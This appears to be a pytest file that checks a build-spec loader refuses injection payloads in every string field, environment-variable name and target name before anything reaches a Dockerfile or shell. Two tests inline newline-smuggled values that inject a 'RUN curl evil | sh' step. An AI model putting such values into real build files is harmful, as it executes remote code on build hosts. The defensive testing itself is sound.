"""The injection boundary: any string that can reach a Dockerfile, a shell or a label is checked at load."""

from __future__ import annotations

import copy
import json

import pytest

from megacpp_env.errors import SpecError
from megacpp_env.spec.yamlsrc import join_key
from tests.fixtures.spec import load_data
from tests.payloads import QUOTED_AT_RENDER, REFUSED_AT_LOAD


def _string_leaves(node, key=""):
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _string_leaves(v, join_key(key, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _string_leaves(v, join_key(key, i))
    elif isinstance(node, str):
        yield key


def _assign(data, key, value):
    import re

    parts = [p for p in re.split(r"\.|\[(\d+)\]", key) if p]
    node = data
    for part in parts[:-1]:
        node = node[int(part)] if isinstance(node, list) else node[part]
    last = parts[-1]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value


def test_every_string_field_refuses_every_payload(stack_data):
    leaves = list(_string_leaves(stack_data))
    assert len(leaves) > 120  # every string of the real spec, not a sample
    for key in leaves:
        for payload in REFUSED_AT_LOAD:
            data = copy.deepcopy(stack_data)
            _assign(data, key, payload)
            assert payload not in json.dumps(stack_data)
            with pytest.raises(SpecError) as exc:
                load_data(data)
            assert exc.value.key == key, (key, payload, str(exc.value))


def test_balanced_substitutions_are_left_to_the_renderer(stack_data):
    """Not refused at load in free text (tests/test_render_templating.py shows they render quoted)."""
    data = copy.deepcopy(stack_data)
    for payload in QUOTED_AT_RENDER:
        next(iter(data["sources"].values()))["ref"] = payload
        assert next(iter(load_data(data).sources.values())).ref == payload


def test_payload_in_an_env_name_is_refused(stack_data):
    data = copy.deepcopy(stack_data)
    data["targets"]["gb10"]["env"]["runtime"]["X\nRUN curl evil"] = "1"
    with pytest.raises(SpecError, match="invalid environment variable name"):
        load_data(data)


def test_payload_in_a_target_name_is_refused(stack_data):
    data = copy.deepcopy(stack_data)
    data["targets"]["x\nRUN curl evil | sh"] = data["targets"].pop("smoke")
    with pytest.raises(SpecError, match="invalid name"):
        load_data(data)
